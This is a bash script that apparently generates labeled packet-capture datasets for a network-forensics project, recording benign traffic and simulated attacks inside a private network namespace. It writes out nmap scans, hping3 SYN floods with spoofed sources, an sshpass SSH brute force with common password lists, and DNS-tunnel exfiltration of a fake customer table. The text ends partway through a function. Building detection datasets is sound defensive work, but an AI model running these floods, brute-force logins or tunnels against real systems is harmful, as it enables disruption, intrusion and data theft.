#!/usr/bin/env bash
# Regenerates PcapLab's labeled datasets from scratch: real tools (curl, dig, openssl, ssh, nmap, hping3,
# sshpass) against throwaway servers (python http.server, dnsmasq, openssl s_server, sshd), all inside a
# private network namespace so no packet can leave the box, recorded with tcpdump on that namespace's lo.
#
# Output (replaced atomically at the end): datasets/{train,holdout}/<label>/<scenario>.pcap,
# datasets/{train,holdout}/commands.log, datasets/labels.csv, datasets/manifest.csv and the generated
# tables of datasets/README.md.
#
# Usage: sudo datasets/make-datasets.sh [--session train|holdout|all]   (default all; needs root)
set -Eeuo pipefail

HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
export TZ=UTC LC_ALL=C
NS=pcaplab-ds
DS_USER=pcaplab-ds
PY=/usr/bin/python3
ONLY=all
[[ "${1:-}" == "--session" ]] && ONLY=${2:?--session needs train, holdout or all}

die() { echo "make-datasets: $*" >&2; exit 1; }
say() { echo "== $*" >&2; }

# ---------------------------------------------------------------------------------------------- checks
[[ $(id -u) -eq 0 ]] || die "needs root (network namespace, raw sockets for nmap -sS and hping3, sshd, useradd)"
missing=()
need() { command -v "$1" >/dev/null 2>&1 || missing+=("$2"); }
need tcpdump tcpdump; need tshark tshark; need capinfos wireshark-common; need nmap nmap; need hping3 hping3
need dnsmasq dnsmasq-base; need /usr/sbin/sshd openssh-server; need ssh openssh-client; need scp openssh-client
need sshpass sshpass; need openssl openssl; need curl curl; need dig bind9-dnsutils; need ip iproute2
need "$PY" python3; need ndpiReader libndpi-bin; need timeout coreutils; need useradd passwd
if ((${#missing[@]})); then
  die "missing tools; run: apt-get install -y $(printf '%s\n' "${missing[@]}" | sort -u | tr '\n' ' ')"
fi

# ---------------------------------------------------------------------------------------------- cleanup
WORK=$(mktemp -d /tmp/pcaplab-ds.XXXXXX)
chmod 755 "$WORK"   # sshd reads authorized_keys as the test user
PIDS=()
CREATED_USER=0
CREATED_RUNSSHD=0

kill_ns_pids() {
  local p
  if ip netns list 2>/dev/null | grep -qw "^$NS"; then
    # Only processes we started live in this namespace (we create it), so ending them by id is safe.
    for p in $(ip netns pids "$NS" 2>/dev/null); do kill "$p" 2>/dev/null || true; done
    sleep 0.5
    for p in $(ip netns pids "$NS" 2>/dev/null); do kill -9 "$p" 2>/dev/null || true; done
  fi
}
cleanup() {
  local rc=$?
  set +e
  for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null; done
  for p in "${PIDS[@]}"; do wait "$p" 2>/dev/null; done
  kill_ns_pids
  ip netns del "$NS" 2>/dev/null
  ((CREATED_USER)) && userdel -r "$DS_USER" 2>/dev/null
  ((CREATED_RUNSSHD)) && rmdir /run/sshd 2>/dev/null
  rm -rf "$WORK"
  ((rc)) && echo "make-datasets: failed (exit $rc); servers, namespace and temp files cleaned up" >&2
  exit $rc
}
trap cleanup EXIT
trap 'exit 130' INT TERM

# Foreground only: background servers are started with a bare `ip netns exec ... &` so that $! is the server itself
# (ip execs into it) and kill reaches it, not a subshell.
nsx() { ip netns exec "$NS" "$@"; }
now() { date -u +%Y-%m-%dT%H:%M:%S.%6NZ; }

# Every traffic-generating command goes through run: logged exactly (shell-quoted) then executed in the namespace.
CMDLOG=/dev/null
SCEN=
# Parallel loops call logcmd in the parent before starting the job, so the log keeps the issue order; one printf per
# line keeps lines whole.
logcmd() { local line; line="$SCEN: $(printf '%q ' "$@")"; printf '%s\n' "$line" >>"$CMDLOG"; }
run() { logcmd "$@"; nsx timeout 60 "$@"; }
# Seeded pseudo-random sleep (bash RANDOM is reseeded per session), in milliseconds range [lo, hi).
pause() { local lo=$1 hi=$2; local ms=$((lo + RANDOM % (hi - lo))); sleep "$((ms / 1000)).$(printf '%03d' $((ms % 1000)))"; }

# ---------------------------------------------------------------------------------------------- setup
kill_ns_pids; ip netns del "$NS" 2>/dev/null || true
ip netns add "$NS"
nsx ip link set lo up

if ! id "$DS_USER" >/dev/null 2>&1; then
  useradd -m -s /bin/bash "$DS_USER"; CREATED_USER=1
fi
# A password nobody knows (a locked account would refuse key logins with UsePAM no); the brute force never guesses it.
usermod -p "$(openssl passwd -6 "$(openssl rand -hex 16)")" "$DS_USER"
[[ -d /run/sshd ]] || { mkdir -p /run/sshd; chmod 755 /run/sshd; CREATED_RUNSSHD=1; }

STAGE=$WORK/out
mkdir -p "$STAGE"
LABELS=$STAGE/labels.csv
echo "start,end,src_cidr,dst_cidr,dst_port,proto,label,capture" >"$LABELS"

# Server addresses are the same in both sessions; clients and attackers move to 127.20.S.x / 127.66.S.x.
HTTP_IP=127.10.0.1 DNS_IP=127.10.0.2 TLS_IP=127.10.0.3 SSH_IP=127.10.0.4 TUNNEL_IP=127.10.0.9
HTTP_PORT=8080 TLS_PORT=8443 SSH_PORT=2222

# ---------------------------------------------------------------------------------------------- content
# Deterministic web content, DNS records and tunnel payload, generated from a seed.
make_content() {
  local dir=$1 seed=$2
  "$PY" - "$dir" "$seed" <<'PY'
import base64, os, random, sys
d, seed = sys.argv[1], int(sys.argv[2])
r = random.Random(seed)
os.makedirs(f"{d}/www/css", exist_ok=True); os.makedirs(f"{d}/www/js", exist_ok=True)
os.makedirs(f"{d}/www/img", exist_ok=True); os.makedirs(f"{d}/www/data", exist_ok=True)
os.makedirs(f"{d}/www/files", exist_ok=True); os.makedirs(f"{d}/www/docs", exist_ok=True)
words = "packet flow capture analyst network forensics query table chart model label session tunnel server client".split()
def text(n): return " ".join(r.choice(words) for _ in range(n))
for name in ("index", "about", "contact", "blog", "products"):
    links = "".join(f'<a href="/{p}.html">{p}</a> ' for p in ("index", "about", "contact", "blog", "products"))
    body = "".join(f"<p>{text(40)}</p>\n" for _ in range(r.randint(5, 30)))
    open(f"{d}/www/{name}.html", "w").write(
        f'<!doctype html><html><head><title>{name}</title><link rel="stylesheet" href="/css/site.css">'
        f'<script src="/js/app.js"></script></head><body><nav>{links}</nav><img src="/img/logo.png">{body}</body></html>\n')
open(f"{d}/www/css/site.css", "w").write("".join(f".c{i}{{margin:{r.randint(0,20)}px;color:#{r.randrange(1<<24):06x}}}\n" for i in range(120)))
open(f"{d}/www/js/app.js", "w").write("".join(f"function f{i}(x){{return x*{r.randint(1,99)}+{r.randint(0,999)};}}\n" for i in range(150)))
open(f"{d}/www/img/logo.png", "wb").write(r.randbytes(9000))
open(f"{d}/www/files/report.pdf", "wb").write(r.randbytes(50_000))
open(f"{d}/www/files/archive.zip", "wb").write(r.randbytes(40_000))
for i in range(1, 6):
    items = ",".join(f'{{"id":{i*100+k},"name":"{r.choice(words)}","qty":{r.randint(1,50)}}}' for k in range(20))
    open(f"{d}/www/data/items-{i}.json", "w").write(f"[{items}]\n")
for i in range(1, 4):
    open(f"{d}/www/docs/notes-{i}.txt", "w").write(text(600) + "\n")
# The "stolen" file the DNS tunnel exfiltrates: a fake customer table.
rows = ["id,name,email,card"] + [f"{i},{r.choice(words)}-{i},user{i}@corp.test,{r.randrange(10**15, 10**16)}" for i in range(400)]
open(f"{d}/secret.csv", "w").write("\n".join(rows) + "\n")
PY
}

# ---------------------------------------------------------------------------------------------- servers
start_servers() {
  local d=$1
  say "servers: http $HTTP_IP:$HTTP_PORT, dns $DNS_IP:53, tls $TLS_IP:$TLS_PORT, ssh $SSH_IP:$SSH_PORT"
  ip netns exec "$NS" "$PY" "$HERE/tools/httpd.py" "$HTTP_IP" "$HTTP_PORT" "$d/www" 2>"$d/httpd.log" &
  PIDS+=($!)

  # DNS: authoritative answers only (--no-resolv, no upstream); tunnel.test answers every name (wildcard A),
  # and carries TXT records with encoded chunks for the tunnel's downstream.
  {
    echo "host-record=www.example.test,$HTTP_IP,fd00::10:1"
    echo "host-record=api.example.test,$HTTP_IP,fd00::10:1"
    echo "host-record=cdn.example.test,$TLS_IP,fd00::10:3"
    echo "host-record=mail.example.test,127.10.0.5"
    echo "host-record=intranet.example.test,127.10.0.6"
    echo "host-record=files.example.test,127.10.0.7,fd00::10:7"
    echo "cname=static.example.test,cdn.example.test"
    echo "mx-host=example.test,mail.example.test,10"
    echo 'txt-record=example.test,"v=spf1 mx -all"'
    echo 'txt-record=_dmarc.example.test,"v=DMARC1; p=reject; rua=mailto:dmarc@example.test"'
    echo "address=/tunnel.test/$TUNNEL_IP"
    "$PY" - "$d/secret.csv" <<'PY'
import base64, sys
data = open(sys.argv[1], "rb").read()
for i in range(60):
    chunk = base64.b32encode(data[i*150:(i+1)*150]).decode().rstrip("=").lower()
    print(f'txt-record=d{i}.dn.tunnel.test,"{chunk}"')
PY
  } >"$d/dnsmasq.conf"
  ip netns exec "$NS" dnsmasq -k --conf-file="$d/dnsmasq.conf" --bind-interfaces --listen-address="$DNS_IP" --port=53 \
    --no-resolv --no-hosts --local=/example.test/ --local=/tunnel.test/ \
    --pid-file="$d/dnsmasq.pid" --log-queries --log-facility="$d/dnsmasq.log" &
  PIDS+=($!)

  # TLS: throwaway self-signed EC certificate; s_server -WWW serves files from the web root.
  openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 2 \
    -subj "/CN=www.example.test" -addext "subjectAltName=DNS:www.example.test,DNS:api.example.test,DNS:cdn.example.test" \
    -keyout "$d/tls.key" -out "$d/tls.crt" 2>/dev/null
  (cd "$d/www" && exec ip netns exec "$NS" openssl s_server -accept "$TLS_IP:$TLS_PORT" -cert "$d/tls.crt" \
    -key "$d/tls.key" -WWW -quiet >"$d/tls.log" 2>&1) &
  PIDS+=($!)

  # SSH: throwaway host key, config and authorised client key; passwords allowed so the brute force is real.
  mkdir -p "$d/ssh"; chmod 755 "$d/ssh"
  ssh-keygen -q -t ed25519 -N '' -f "$d/ssh/host_ed25519" -C pcaplab-ds-host
  ssh-keygen -q -t ed25519 -N '' -f "$d/ssh/client_ed25519" -C pcaplab-ds-client
  cp "$d/ssh/client_ed25519.pub" "$d/ssh/authorized_keys"; chmod 644 "$d/ssh/authorized_keys"
  cat >"$d/ssh/sshd_config" <<EOF
Port $SSH_PORT
ListenAddress $SSH_IP
HostKey $d/ssh/host_ed25519
PidFile $d/ssh/sshd.pid
UsePAM no
PasswordAuthentication yes
KbdInteractiveAuthentication no
PubkeyAuthentication yes
AuthorizedKeysFile $d/ssh/authorized_keys
StrictModes no
PermitRootLogin no
AllowUsers $DS_USER
UseDNS no
MaxAuthTries 10
MaxStartups 200:30:400
LoginGraceTime 20
LogLevel VERBOSE
Subsystem sftp /usr/lib/openssh/sftp-server
EOF
  ip netns exec "$NS" /usr/sbin/sshd -D -e -f "$d/ssh/sshd_config" 2>"$d/sshd.log" &
  PIDS+=($!)

  # Wait until every server accepts (bounded).
  local i
  for i in $(seq 50); do
    if nsx bash -c "exec 3<>/dev/tcp/$HTTP_IP/$HTTP_PORT && exec 4<>/dev/tcp/$TLS_IP/$TLS_PORT && exec 5<>/dev/tcp/$SSH_IP/$SSH_PORT" 2>/dev/null \
       && nsx dig +short +tries=1 +time=1 @"$DNS_IP" www.example.test >/dev/null 2>&1; then
      sleep 1; return 0
    fi
    sleep 0.2
  done
  die "servers did not come up; see logs in $d"
}

stop_servers() {
  local p
  for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null || true; done
  for p in "${PIDS[@]}"; do wait "$p" 2>/dev/null || true; done
  PIDS=()
  kill_ns_pids
}

# ---------------------------------------------------------------------------------------------- capture
CAP_PID=
T0=
# record <session> <label> <scenario> <snaplen> <bpf> <src_cidr> <dst_cidr> <dst_port> <proto> <function>
record() {
  local session=$1 label=$2 scen=$3 snap=$4 bpf=$5 src=$6 dst=$7 dport=$8 proto=$9 fn=${10}
  local rel="$session/$label/$scen.pcap" out="$STAGE/$session/$label/$scen.pcap"
  mkdir -p "$(dirname "$out")"
  SCEN="$label/$scen"
  say "$session $label/$scen ($bpf)"
  # Start tcpdump and wait until it is listening; on a busy host it can be slow (or lost), so try three times.
  local i try rc
  for try in 1 2 3; do
    ip netns exec "$NS" tcpdump -i lo -n -U -Z root -s "$snap" -w "$out" "$bpf" 2>"$WORK/tcpdump.err" &
    CAP_PID=$!
    for i in $(seq 300); do  # up to 30 s
      grep -q "listening on" "$WORK/tcpdump.err" && break
      kill -0 "$CAP_PID" 2>/dev/null || break
      sleep 0.1
    done
    grep -q "listening on" "$WORK/tcpdump.err" && break
    kill "$CAP_PID" 2>/dev/null; rc=0; wait "$CAP_PID" || rc=$?
    echo "make-datasets: tcpdump start $try failed (exit $rc): $(cat "$WORK/tcpdump.err")" >&2
    ((try < 3)) || die "tcpdump did not start"
    sleep 2
  done
  PIDS+=("$CAP_PID")
  local t0; t0=$(now)
  "$fn"
  sleep 1.5   # let FINs, RSTs and late answers land
  kill -0 "$CAP_PID" 2>/dev/null || die "tcpdump died during $session $label/$scen: $(cat "$WORK/tcpdump.err")"
  kill -TERM "$CAP_PID"; wait "$CAP_PID" || true
  unset 'PIDS[-1]'
  local t1; t1=$(now)
  echo "$t0,$t1,$src,$dst,$dport,$proto,$label,$rel" >>"$LABELS"
}

# ---------------------------------------------------------------------------------------------- benign
UAS=("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36"
     "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15"
     "curl/7.88.1")
PAGES=(index about contact blog products)
WORDS=(packet flow capture analyst network query table chart model label)

benign_http() {
  local base="http://$HTTP_IP:$HTTP_PORT" i kind ua page
  for ((i = 0; i < HTTP_VISITS; i++)); do
    ua=${UAS[RANDOM % ${#UAS[@]}]}
    page=${PAGES[RANDOM % ${#PAGES[@]}]}
    kind=$((RANDOM % 10))
    case $kind in
      0|1|2|3) # a page view: html, css, js, image over one kept-alive connection
        run curl -sS -o /dev/null -o /dev/null -o /dev/null -o /dev/null -A "$ua" --interface "$C_HTTP" \
          "$base/$page.html" "$base/css/site.css" "$base/js/app.js" "$base/img/logo.png" || true ;;
      4) run curl -sS -o /dev/null -A "$ua" --interface "$C_HTTP" \
           "$base/data/items-$((RANDOM % 5 + 1)).json?page=$((RANDOM % 9 + 1))&sort=name" || true ;;
      5) run curl -sS -o /dev/null -A "$ua" --interface "$C_HTTP" \
           "$base/index.html?q=${WORDS[RANDOM % 10]}+${WORDS[RANDOM % 10]}&lang=en" || true ;;
      6) run curl -sS -o /dev/null -A "$ua" --interface "$C_HTTP" \
           --data-urlencode "user=user$((RANDOM % 20))" --data-urlencode "password=Correct-Horse-$((RANDOM % 1000))" \
           "$base/login" || true ;;
      7) run curl -sS -o /dev/null -A "$ua" --interface "$C_HTTP" -H 'Content-Type: application/json' \
           -d "{\"name\":\"${WORDS[RANDOM % 10]}\",\"qty\":$((RANDOM % 50 + 1))}" "$base/api/items" || true ;;
      8) if ((RANDOM % 2)); then
           run curl -sS -o /dev/null -A "$ua" --interface "$C_HTTP" "$base/files/report.pdf" || true
         else
           run curl -sS -o /dev/null -A "$ua" --interface "$C_HTTP" "$base/docs/notes-$((RANDOM % 3 + 1)).txt" || true
         fi ;;
      9) if ((RANDOM % 2)); then
           run curl -sS -I -o /dev/null -A "$ua" --interface "$C_HTTP" "$base/files/archive.zip" || true
         else
           run curl -sS -o /dev/null -A "$ua" --interface "$C_HTTP" "$base/favicon.ico" || true
         fi ;;
    esac
    pause "$HTTP_PAUSE_LO" "$HTTP_PAUSE_HI"
  done
}

benign_dns() {
  local names=(www.example.test api.example.test cdn.example.test static.example.test mail.example.test
               intranet.example.test files.example.test example.test _dmarc.example.test printer.example.test)
  local types=(A A A AAAA AAAA MX TXT A A A)
  local i k n batch
  for ((i = 0; i < DNS_BATCHES; i++)); do
    batch="$WORK/dns-batch-$i.txt"; : >"$batch"
    n=$((RANDOM % 4 + 1))
    for ((k = 0; k < n; k++)); do
      echo "${names[RANDOM % ${#names[@]}]} ${types[RANDOM % ${#types[@]}]}" >>"$batch"
    done
    { printf '%s: batch %s = ' "$SCEN" "$i"; tr '\n' ';' <"$batch"; echo; } >>"$CMDLOG"
    run dig -b "$C_DNS" @"$DNS_IP" +tries=1 +time=2 +noall +answer -f "$batch" >/dev/null || true
    pause "$DNS_PAUSE_LO" "$DNS_PAUSE_HI"
  done
}

benign_tls() {
  local snis=(www.example.test api.example.test cdn.example.test) paths=(index.html about.html css/site.css data/items-1.json)
  local i sni ver
  for ((i = 0; i < TLS_CONNS; i++)); do
    sni=${snis[RANDOM % 3]}
    case $((RANDOM % 3)) in 0) ver=(--tlsv1.2 --tls-max 1.2) ;; *) ver=(--tlsv1.3) ;; esac
    run curl -sS -k --http1.1 "${ver[@]}" -o /dev/null --interface "$C_TLS" \
      --resolve "$sni:$TLS_PORT:$TLS_IP" "https://$sni:$TLS_PORT/${paths[RANDOM % ${#paths[@]}]}" || true
    pause "$TLS_PAUSE_LO" "$TLS_PAUSE_HI"
  done
}

benign_ssh() {
  local k=$SESSION_DIR/ssh/client_ed25519 common i
  common=(-o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o ConnectTimeout=5 -i "$k")
  head -c 50000 "$SESSION_DIR/www/files/report.pdf" >"$SESSION_DIR/upload.bin"
  local cmds=("uname -a; id; uptime" "ls -la /etc | head -40; df -h" "cat /etc/os-release; ps aux | head -20"
              "for i in 1 2 3; do date; sleep 1; done" "find /usr/share/doc -maxdepth 1 | head -50" "free -m; who; last -n 5 || true")
  for ((i = 0; i < SSH_SESSIONS; i++)); do
    run ssh "${common[@]}" -p "$SSH_PORT" -b "$C_SSH" "$DS_USER@$SSH_IP" "${cmds[RANDOM % ${#cmds[@]}]}" >/dev/null || true
    pause 300 1500
    if ((i % 3 == 1)); then
      run scp "${common[@]}" -P "$SSH_PORT" -o BindAddress="$C_SSH" "$SESSION_DIR/upload.bin" "$DS_USER@$SSH_IP:upload-$i.bin" || true
      run scp "${common[@]}" -P "$SSH_PORT" -o BindAddress="$C_SSH" "$DS_USER@$SSH_IP:upload-$i.bin" "$WORK/down.bin" || true
      pause 300 1000
    fi
    if ((i % 3 == 2)); then  # an interactive shell on a pty, typed line by line
      printf 'pwd\nls -la\necho hello from pcaplab\nexit\n' | run ssh "${common[@]}" -tt -p "$SSH_PORT" -b "$C_SSH" "$DS_USER@$SSH_IP" >/dev/null 2>&1 || true
      pause 300 1000
    fi
  done
}

# ---------------------------------------------------------------------------------------------- attacks
attack_synscan()     { run nmap -sS -Pn -n "${SYNSCAN_OPTS[@]}" -S "$A_SYNSCAN" -e lo "$SYNSCAN_TARGET" >/dev/null; }
attack_connectscan() { run nmap -sT -Pn -n "${CONNSCAN_OPTS[@]}" -S "$A_CONNSCAN" -e lo "$CONNSCAN_TARGET" >/dev/null 2>&1; }
attack_hscan()       { run nmap -sS -Pn -n "${HSCAN_OPTS[@]}" -S "$A_HSCAN" -e lo "$HSCAN_TARGET" >/dev/null; }
attack_pingsweep() {
  # nmap -sn treats every loopback address as up without probing, so the sweep uses hping3 ICMP echo.
  local i
  for ((i = SWEEP_FIRST; i <= SWEEP_LAST; i++)); do
    run hping3 -q -I lo -1 -c 1 -a "$A_SWEEP" "127.10.0.$i" >/dev/null 2>&1 || true
  done
}
attack_synflood() {
  run hping3 -q -I lo -S -p "$FLOOD_PORT" -a "$A_FLOOD" -c "$FLOOD_COUNT" -i "$FLOOD_INTERVAL" "$FLOOD_TARGET" >/dev/null 2>&1 || true
}
attack_synflood_spoofed() {
  # Bounded spoofing: every source inside one 127.66.x.0/24 (never --rand-source), a few in parallel.
  local i bg=()
  for ((i = 1; i <= 254; i++)); do
    local cmd=(hping3 -q -I lo -S -p "$SPOOF_PORT" -a "$SPOOF_NET.$i" -c "$SPOOF_PER_SRC" -i "$SPOOF_INTERVAL" "$SPOOF_TARGET")
    logcmd "${cmd[@]}"
    nsx timeout 60 "${cmd[@]}" >/dev/null 2>&1 &
    bg+=($!)
    if ((i % 16 == 0)); then wait "${bg[@]}" || true; bg=(); fi
  done
  ((${#bg[@]} == 0)) || wait "${bg[@]}" || true
}
attack_sshbrute() {
  local users=(root admin "$DS_USER" test oracle ubuntu user guest postgres git)
  local pws=(123456 password admin qwerty letmein 12345678 root toor changeme welcome 1q2w3e4r passw0rd
             iloveyou monkey dragon secret abc123 111111 trustno1 P@ssw0rd)
  local i u p bg=()
  for ((i = 0; i < BRUTE_ATTEMPTS; i++)); do
    u=${users[RANDOM % ${#users[@]}]}; p=${pws[RANDOM % ${#pws[@]}]}
    local cmd=(sshpass -p "$p" ssh -p "$SSH_PORT" -b "$A_BRUTE" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null
      -o PreferredAuthentications=password -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1
      -o ConnectTimeout=5 -o LogLevel=ERROR "$u@$SSH_IP" true)
    logcmd "${cmd[@]}"
    nsx timeout 60 "${cmd[@]}" >/dev/null 2>&1 &
    bg+=($!)
    if (((i + 1) % BRUTE_PARALLEL == 0)); then wait "${bg[@]}" || true; bg=(); pause "$BRUTE_PAUSE_LO" "$BRUTE_PAUSE_HI"; fi
  done
  ((${#bg[@]} == 0)) || wait "${bg[@]}" || true
}
attack_dnstunnel() {
  # Upstream: file chunks encoded into long labels of A queries; downstream: TXT polls; ids and order are fixed.
  "$PY" - "$SESSION_DIR/secret.csv" "$TUNNEL_ENC" "$TUNNEL_CHUNK" "$TUNNEL_UP" "$TUNNEL_TXT" "$TUNNEL_SID" >"$WORK/tunnel-queries.txt" <<'PY'
import base64, sys
data = open(sys.argv[1], "rb").read()
enc, chunk, n_up, n_txt, sid = sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5]), sys.argv[6]
every = max(1, n_up // max(1, n_txt))
t = 0
for i in range(n_up):
    part = data[(i * chunk) % len(data):][:chunk]
    s = base64.b32encode(part).decode().rstrip("=").lower() if enc == "base32" else part.hex()
    labels = ".".join(s[k:k + 60] for k in range(0, len(s), 60))
    print(f"{i:04x}.{labels}.{sid}.up.tunnel.test A")
    if i % every == every - 1 and t < n_txt:
        print(f"d{t % 60}.dn.tunnel.test TXT"); t += 1
PY
  { printf '%s: queries (%s lines) e.g. ' "$SCEN" "$(wc -l <"$WORK/tunnel-queries.txt")"; head -2 "$WORK/tunnel-queries.txt" | tr '\n' ';'; echo; } >>"$CMDLOG"
  split -l "$TUNNEL_BATCH" -d -a 3 "$WORK/tunnel-queries.txt" "$WORK/tunnel-part-"
  local f
  for f in "$WORK"/tunnel-part-*; do
    run dig -b "$A_TUNNEL" @"$DNS_IP" +tries=1 +time=2 +noall +answer -f "$f" >/dev/null || true
    pause "$TUNNEL_PAUSE_LO" "$TUNNEL_PAUSE_HI"
  done
  rm -f "$WORK"/tunnel-part-*
}
attack_web() {
  local base="http://$HTTP_IP:$HTTP_PORT" ua kind target body pass
  # Each line: kind<TAB>target<TAB>body. kind: get (raw URI, sent as is), getq (query urlencoded by curl),
  # post (form body), json (JSON body), hdr (header value on GET /). Each pass after the first aims the
  # payloads that target a page at another page, as scanners probe every page they crawl.
  for ((pass = 0; pass < WEB_PASSES; pass++)); do
  while IFS=$'\t' read -r kind target body; do
    [[ -z "$kind" || "$kind" == \#* ]] && continue
    ua=${WEB_UAS[RANDOM % ${#WEB_UAS[@]}]}
    if ((pass > 0)) && [[ "$target" =~ ^/[a-z]+\.html(.*)$ ]]; then
      target="/${PAGES[RANDOM % ${#PAGES[@]}]}.html${BASH_REMATCH[1]}"
    fi
    case $kind in
      get)  run curl -sS -g --path-as-is -o /dev/null -A "$ua" --interface "$A_WEB" "$base$target" || true ;;
      getq) run curl -sS -G -o /dev/null -A "$ua" --interface "$A_WEB" --data-urlencode "$body" "$base$target" || true ;;
      post) run curl -sS -o /dev/null -A "$ua" --interface "$A_WEB" --data-urlencode "$body" "$base$target" || true ;;
      json) run curl -sS -o /dev/null -A "$ua" --interface "$A_WEB" -H 'Content-Type: application/json' -d "$body" "$base$target" || true ;;
      hdr)  run curl -sS -o /dev/null --interface "$A_WEB" -H "$body" "$base$target" || true ;;
    esac
    pause "$WEB_PAUSE_LO" "$WEB_PAUSE_HI"
  done <"$WEB_PAYLOADS"
  done
}

# ---------------------------------------------------------------------------------------------- sessions
session_params() {
  case $1 in
    train)
      S=0 SEED=1001
      HTTP_VISITS=140 HTTP_PAUSE_LO=50 HTTP_PAUSE_HI=400
      DNS_BATCHES=90 DNS_PAUSE_LO=50 DNS_PAUSE_HI=400
      TLS_CONNS=45 TLS_PAUSE_LO=50 TLS_PAUSE_HI=400
      SSH_SESSIONS=9
      SYNSCAN_OPTS=(-T4 --max-retries 1 -p 1-1024,2222,8080,8443) SYNSCAN_TARGET=$HTTP_IP
      CONNSCAN_OPTS=(-T4 --max-retries 1 -p 1-1024,2222,8080,8443) CONNSCAN_TARGET=$HTTP_IP
      HSCAN_OPTS=(-T4 --max-retries 1 -p 21,22,80,443,2222,3389,8080,8443) HSCAN_TARGET=127.10.0.0/27
      SWEEP_FIRST=1 SWEEP_LAST=64
      FLOOD_PORT=$HTTP_PORT FLOOD_TARGET=$HTTP_IP FLOOD_COUNT=5000 FLOOD_INTERVAL=u200
      SPOOF_PORT=$HTTP_PORT SPOOF_TARGET=$HTTP_IP SPOOF_PER_SRC=20 SPOOF_INTERVAL=u500
      BRUTE_ATTEMPTS=100 BRUTE_PARALLEL=1 BRUTE_PAUSE_LO=20 BRUTE_PAUSE_HI=200
      TUNNEL_ENC=base32 TUNNEL_CHUNK=60 TUNNEL_UP=260 TUNNEL_TXT=40 TUNNEL_SID=s7f3a TUNNEL_BATCH=20 TUNNEL_PAUSE_LO=100 TUNNEL_PAUSE_HI=500
      WEB_PASSES=3 WEB_PAUSE_LO=50 WEB_PAUSE_HI=300 WEB_PAYLOADS=$HERE/tools/web-payloads-train.tsv
      ;;
    holdout)
      S=1 SEED=2002
      HTTP_VISITS=110 HTTP_PAUSE_LO=80 HTTP_PAUSE_HI=600
      DNS_BATCHES=70 DNS_PAUSE_LO=80 DNS_PAUSE_HI=600
      TLS_CONNS=35 TLS_PAUSE_LO=80 TLS_PAUSE_HI=600
      SSH_SESSIONS=7
      SYNSCAN_OPTS=(-T3 --max-retries 2 --top-ports 1000) SYNSCAN_TARGET=$SSH_IP
      CONNSCAN_OPTS=(-T3 --max-retries 2 --top-ports 500) CONNSCAN_TARGET=$TLS_IP
      HSCAN_OPTS=(-T3 --max-retries 1 -p 22,23,25,53,80,443,445,8080) HSCAN_TARGET=127.10.0.32/27
      SWEEP_FIRST=65 SWEEP_LAST=120
      FLOOD_PORT=$TLS_PORT FLOOD_TARGET=$TLS_IP FLOOD_COUNT=4000 FLOOD_INTERVAL=u300
      SPOOF_PORT=$SSH_PORT SPOOF_TARGET=$SSH_IP SPOOF_PER_SRC=15 SPOOF_INTERVAL=u800
      BRUTE_ATTEMPTS=80 BRUTE_PARALLEL=4 BRUTE_PAUSE_LO=100 BRUTE_PAUSE_HI=600
      TUNNEL_ENC=hex TUNNEL_CHUNK=50 TUNNEL_UP=220 TUNNEL_TXT=30 TUNNEL_SID=q91c0 TUNNEL_BATCH=12 TUNNEL_PAUSE_LO=200 TUNNEL_PAUSE_HI=900
      WEB_PASSES=2 WEB_PAUSE_LO=80 WEB_PAUSE_HI=500 WEB_PAYLOADS=$HERE/tools/web-payloads-holdout.tsv
      ;;
    *) die "unknown session $1" ;;
  esac
  C_HTTP=127.20.$S.1 C_DNS=127.20.$S.2 C_TLS=127.20.$S.3 C_SSH=127.20.$S.4
  A_SYNSCAN=127.66.$S.1 A_CONNSCAN=127.66.$S.2 A_FLOOD=127.66.$S.3 A_BRUTE=127.66.$S.4
  A_TUNNEL=127.66.$S.5 A_WEB=127.66.$S.6 A_HSCAN=127.66.$S.7 A_SWEEP=127.66.$S.8
  SPOOF_NET=127.66.$((100 + S))
  WEB_UAS=("curl/7.88.1" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36")
}

record_session() {
  local s=$1
  session_params "$s"
  SESSION_DIR=$WORK/$s
  mkdir -p "$SESSION_DIR" "$STAGE/$s"
  CMDLOG=$STAGE/$s/commands.log
  : >"$CMDLOG"
  RANDOM=$SEED
  make_content "$SESSION_DIR" "$SEED"
  chmod -R a+rX "$SESSION_DIR"
  start_servers "$SESSION_DIR"

  local H=$HTTP_IP/32 D=$DNS_IP/32 T=$TLS_IP/32 X=$SSH_IP/32
  record "$s" benign http 0 "host $C_HTTP" "$C_HTTP/32" "$H" "$HTTP_PORT" tcp benign_http
  record "$s" benign dns 0 "host $C_DNS" "$C_DNS/32" "$D" 53 udp benign_dns
  record "$s" benign tls 0 "host $C_TLS" "$C_TLS/32" "$T" "$TLS_PORT" tcp benign_tls
  record "$s" benign ssh 0 "host $C_SSH" "$C_SSH/32" "$X" "$SSH_PORT" tcp benign_ssh
  record "$s" portscan syn-scan 256 "host $A_SYNSCAN" "$A_SYNSCAN/32" "$SYNSCAN_TARGET/32" "" tcp attack_synscan
  record "$s" portscan connect-scan 256 "host $A_CONNSCAN" "$A_CONNSCAN/32" "$CONNSCAN_TARGET/32" "" tcp attack_connectscan
  record "$s" portscan horizontal-scan 256 "host $A_HSCAN" "$A_HSCAN/32" "$HSCAN_TARGET" "" tcp attack_hscan
  record "$s" portscan ping-sweep 256 "host $A_SWEEP" "$A_SWEEP/32" "127.10.0.0/24" "" icmp attack_pingsweep
  record "$s" synflood syn-flood 256 "host $A_FLOOD" "$A_FLOOD/32" "$FLOOD_TARGET/32" "$FLOOD_PORT" tcp attack_synflood
